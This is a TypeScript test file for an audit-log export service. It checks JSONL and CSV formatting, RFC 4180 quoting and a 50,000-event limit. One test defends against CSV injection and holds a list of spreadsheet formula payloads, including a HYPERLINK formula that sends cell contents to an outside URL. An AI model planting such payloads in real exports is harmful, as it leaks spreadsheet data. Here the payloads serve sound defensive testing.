import { createTestContext, refusal } from '@backarch/api/testing'
import { newId } from '@backarch/core'
import { createTestDatabase } from '@backarch/db/testing'
import { exportAudit, listAudit, recordAudit } from '@backarch/services-audit'
import { auditEventSchema, auditExportSchema } from '@backarch/services-audit/schemas'
import { afterAll, expect, test } from 'vitest'

import { fillLog, somebody } from './support/fill-log.ts'

const database = await createTestDatabase()
afterAll(() => database[Symbol.asyncDispose]())
const now = new Date('2026-03-01T23:59:59.999Z')
const ctx = createTestContext({ db: database.db, now: () => now })

/** Reads RFC 4180, every field quoted; fails for anything else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let fields: string[] = []
  let end = 0
  for (const { 0: whole, 1: field = '', 2: after } of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    end += whole.length
    fields.push(field.replaceAll('""', '"'))
    if (after === ',') continue
    records.push(fields)
    fields = []
  }
  expect(end).toBe(text.length)
  return records
}

test('JSON lines hold what the list shows, one event a line', async () => {
  const orgId = newId()
  const details = { note: 'two\nlines, "quoted"' }
  for (const action of ['tests.one', 'tests.two'] as const) {
    await recordAudit(ctx, ctx.db, { action, orgId, details })
  }
  const file = auditExportSchema.parse(await exportAudit(ctx, { orgId }, {}, 'jsonl'))
  expect(file.fileName).toBe('audit-2026-03-01.jsonl')
  expect(file.contentType).toBe('application/x-ndjson; charset=utf-8')
  const lines = file.content.split('\n')
  expect(lines.pop()).toBe('')
  const events = lines.map((line) => auditEventSchema.parse(JSON.parse(line)))
  expect(events).toEqual((await listAudit(ctx, { orgId }, {}, { take: 10 })).items)
  const none = await exportAudit(ctx, { orgId: newId() }, {}, 'jsonl')
  expect(none.content).toBe('')
})

test('CSV is RFC 4180: a header, a record a line, quotes doubled', async () => {
  const orgId = newId()
  const principal = { kind: 'user', userId: newId(), sessionId: newId() } as const
  const userAgent = 'Say "hi", Ωmega\r\n'
  const target = { kind: 'member', id: newId() }
  const caller = { ...ctx, principal, peer: { address: '::1', userAgent } }
  const details = { role: 'editor' }
  await recordAudit(caller, ctx.db, { action: 'tests.added', orgId, target, details })
  const file = await exportAudit(ctx, { orgId }, {}, 'csv')
  expect(file.fileName).toBe('audit-2026-03-01.csv')
  expect(file.contentType).toBe('text/csv; charset=utf-8')
  const [header = [], record = [], ...more] = parseCsv(file.content)
  expect(more).toEqual([])
  const cells = Object.fromEntries(header.map((name, at) => [name, record[at]]))
  expect(cells).toEqual({
    at: '2026-03-01T23:59:59.999Z',
    action: 'tests.added',
    outcome: 'success',
    org_id: orgId,
    actor_kind: 'user',
    actor: principal.userId,
    session_id: principal.sessionId,
    target_kind: 'member',
    target_id: target.id,
    address: '::1',
    user_agent: 'Say "hi", Ωmega\\u000d\\u000a',
    request_id: ctx.requestId,
    id: cells['id'],
    details: '{"role":"editor"}',
  })
})

test('CSV runs no formula in a spreadsheet (OWASP, CSV injection)', async () => {
  const attacks = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1']
  attacks.push('=HYPERLINK("https://example.com?x="&A1,"see")', '","=1+1', '"=1+1', '\u0000=1')
  for (const attack of attacks) {
    const orgId = newId()
    const principal = { kind: 'operator', name: attack } as const
    const peer = { address: attack, userAgent: attack }
    const caller = { ...ctx, principal, peer, requestId: attack }
    await recordAudit(caller, ctx.db, { action: 'tests.tried', orgId, details: { note: attack } })
    const [, record = []] = parseCsv((await exportAudit(ctx, { orgId }, {}, 'csv')).content)
    expect(record).toHaveLength(14)
    for (const cell of record) expect(cell).not.toMatch(/^\s*[=+\-@\t\r\n＝＋－＠]/)
  }
})

test('50,000 events are exported, one more is refused with what to do', async () => {
  const orgId = newId()
  await fillLog(database.db, { orgId, count: 50_000 })
  const file = await exportAudit(ctx, { orgId }, {}, 'jsonl')
  const lines = file.content.trimEnd().split('\n')
  expect(new Set(lines).size).toBe(50_000)
  const times = lines.map((line) => auditEventSchema.parse(JSON.parse(line)).at)
  expect(times).toEqual(times.toSorted().toReversed())
  await recordAudit(ctx, ctx.db, { action: 'tests.one_more', orgId })
  expect(await refusal(exportAudit(ctx, { orgId }, {}, 'csv'))).toEqual({
    code: 'LIMIT_EXCEEDED',
    reason: 'audit_export_too_large',
    message: 'An export holds at most 50,000 events: choose a shorter time with from and to.',
  })
  const narrower = await exportAudit(ctx, { orgId }, { from: '2026-05-31T00:00:00Z' }, 'csv')
  expect(parseCsv(narrower.content)).toHaveLength(24 * 60 + 1)
  const theirs = await exportAudit(ctx, { userId: somebody }, {}, 'csv')
  expect(parseCsv(theirs.content)).toHaveLength(501)
})
